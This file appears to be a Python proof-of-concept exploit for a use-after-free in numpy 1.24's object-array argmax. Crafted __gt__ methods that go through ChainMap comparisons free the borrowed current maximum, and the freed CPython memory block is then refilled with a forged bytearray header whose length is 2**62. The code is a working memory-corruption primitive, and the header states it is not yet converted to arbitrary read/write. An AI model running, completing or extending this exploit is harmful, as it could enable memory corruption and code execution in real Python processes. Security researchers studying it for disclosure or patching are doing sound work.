# source: numpy 1.24 arraytypes OBJECT_argmax (mp = *ip kept borrowed across PyObject_RichCompareBool calls); CPython pymalloc LIFO block reuse; ChainMap.__eq__
# family: compare-only __gt__ via ChainMap != frees the current max that argmax holds borrowed; a later compare-only __gt__ (again via ChainMap) refills the freed block with script bytes
# goal: use-after-free: numpy passes a forged 2**62-byte bytearray built from script bytes to the script's comparison (argmax returns 3); not converted to a read/write here
import collections
import numpy as np

keep = []


def q(n):
    return n.to_bytes(8, "little")


def addr_of_type(t):
    y = hash(t) % (1 << 64)
    return ((y << 4) | (y >> 60)) % (1 << 64)


BA = addr_of_type(bytearray)


def spoil(k):
    a[0] = 0
    return False


def refill(k):
    buf = bytearray(432)
    buf[0:56] = q(1 << 40) + q(BA) + q(1 << 62) + q(1 << 62) + q(0) + q(0) + q(0)
    keep.append(buf)
    return False


class First:
    def __init__(self):
        self.m = collections.ChainMap(filter(spoil, [1]))
        self.n = collections.ChainMap({})

    def __gt__(self, other):
        return self.m != self.n


class Filler:
    def __init__(self):
        self.m = collections.ChainMap(filter(refill, [1]))
        self.n = collections.ChainMap({})

    def __gt__(self, other):
        return self.m != self.n


class Probe:
    def __gt__(self, other):
        return len(other) == 4611686018427387904


drain = [bytearray(432) for _ in range(16)]
a = np.empty(4, dtype=object)
a[0] = bytes(400)
a[1] = First()
a[2] = Filler()
a[3] = Probe()
i = np.argmax(a)
print("argmax", i, "- 3 means numpy compared Probe with a forged 2**62-byte bytearray where the freed bytes object was")
